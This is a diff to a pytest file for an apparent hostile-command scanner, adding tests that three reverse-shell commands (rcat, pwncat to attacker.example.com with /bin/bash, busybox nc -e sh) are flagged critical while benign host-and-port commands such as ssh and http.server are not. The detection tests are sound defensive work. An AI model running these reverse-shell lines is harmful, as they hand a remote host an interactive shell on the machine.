@@ -11,7 +11,14 @@ import pytest
 
 from fwyy_ollama.dataset.balance import balance_records, group_key
 from fwyy_ollama.dataset.records import load_records, record_lang, to_messages, write_records
-from fwyy_ollama.findings import MAX_SHOWN, findings_line, shown_in_training, static_findings, user_turn
+from fwyy_ollama.findings import (
+    MAX_SHOWN,
+    findings_line,
+    shown_in_training,
+    static_findings,
+    user_turn,
+    veto_finding,
+)
 from fwyy_ollama.report import Label, Report, render_report
 from fwyy_ollama.resources import data_dir
 
@@ -72,6 +79,32 @@ def test_attack_tool_rules_match_a_run_not_a_mention() -> None:
     prose = "<p>Our scanner report mentions sqlmap and hydra findings.</p>"
     for text in (code, prose):
         assert not {f.name for f in static_findings(text)} & {"payload", "attack_tool"}
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "rcat 10.10.14.7 4444 -r /bin/sh",
+        "pwncat attacker.example.com 9001 --exec=/bin/bash",
+        "busybox nc 192.0.2.9 4444 -e sh",
+    ],
+)
+def test_any_client_handing_a_host_and_port_a_shell_is_a_reverse_shell(command: str) -> None:
+    veto = veto_finding(command)
+    assert veto is not None and veto.rule == "bash:revshell" and veto.label is Label.CRITICAL
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "ssh -p 2222 admin@192.0.2.1 -t bash",
+        "python3 -m http.server 8000 --bind 0.0.0.0",
+        "telnet towel.blinkenlights.nl 23 -l shane",
+        "redis-cli -h cache.internal 6379 --scan",
+    ],
+)
+def test_a_host_and_port_without_a_shell_handed_over_is_not_a_reverse_shell(command: str) -> None:
+    assert "revshell" not in {f.name for f in static_findings(command)}
 
 
 def test_hostile_input_cannot_add_lines_or_backticks_to_the_line() -> None:
